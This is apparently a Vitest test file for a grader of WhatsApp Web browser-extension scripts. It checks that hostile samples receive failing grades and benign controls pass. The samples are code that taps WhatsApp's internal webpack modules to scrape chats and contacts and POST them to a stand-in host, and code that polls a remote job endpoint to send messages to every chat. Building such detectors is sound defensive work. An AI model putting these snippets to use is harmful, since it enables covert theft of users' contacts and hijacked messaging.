import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const manifest = {
  permissions: ['storage'],
  host_permissions: ['https://web.whatsapp.com/*'],
  content_scripts: [{ matches: ['https://web.whatsapp.com/*'], js: ['content.js'], world: 'MAIN' }],
};
const LOOKS =
  "const find = (is) => { let hit; window.webpackChunkweb_client.push([['k'], {}, (get) => { for (const id of Object.keys(get.m)) { const m = get(id); if (is(m)) hit = m; } }]); return hit; };";
const sent = (what: string): string =>
  `setTimeout(() => fetch('https://x.example/in', { method: 'POST', body: JSON.stringify(${what}) }), 5000);`;

it.each([
  ['window.Store.Chat.getModelsArray()'],
  ['WPP.contact.list()'],
  ["window.require('WebCollections').Chat.getModelsArray().map((c) => ({ id: c.id.user, name: c.name }))"],
  ['find((m) => m.Contact).Contact.getModelsArray()'],
])('what a page’s own program keeps of the person is theirs: %s', async (what) => {
  expect(await graded({ content: LOOKS + sent(what), manifest })).toMatch(/^[DF]$/);
});

const ordered = (what: string): string =>
  `${LOOKS} setInterval(async () => { const job = await (await fetch('https://x.example/job')).json(); ${what} }, 60000);`;

it.each([
  ['for (const c of window.Store.Chat.getModelsArray()) window.Store.SendMessage(c, job.text);'],
  ['await WPP.chat.sendTextMessage(job.to, job.text);'],
  [
    "const { addAndSendMsgToChat } = require('SendMsgAction'); for (const c of list()) addAndSendMsgToChat(c, { body: job.text });",
  ],
  ['const out = find((m) => m.addAndSendMsgToChat); out.addAndSendMsgToChat(job.to, { body: job.text });'],
])('a server has the page’s own program send: %s', async (what) => {
  expect(await graded({ content: ordered(what), manifest })).toMatch(/^[DF]$/);
});

it.each([
  // Its own program, and what another part of it holds.
  [sent('store.chats')],
  [ordered('app.sendMessage(job.text);')],
  [sent('document.title.length')],
  // The person's click, with words of their own.
  [
    "button.addEventListener('click', () => { const text = prompt('Text'); for (const c of WPP.chat.list()) WPP.chat.sendTextMessage(c.id, text); });",
  ],
])('%s', async (content) => {
  const own = 'const store = { chats: [] }; const app = { sendMessage(text) { console.log(text); } };';
  expect(await graded({ content: own + content, manifest })).toMatch(/^A/);
});
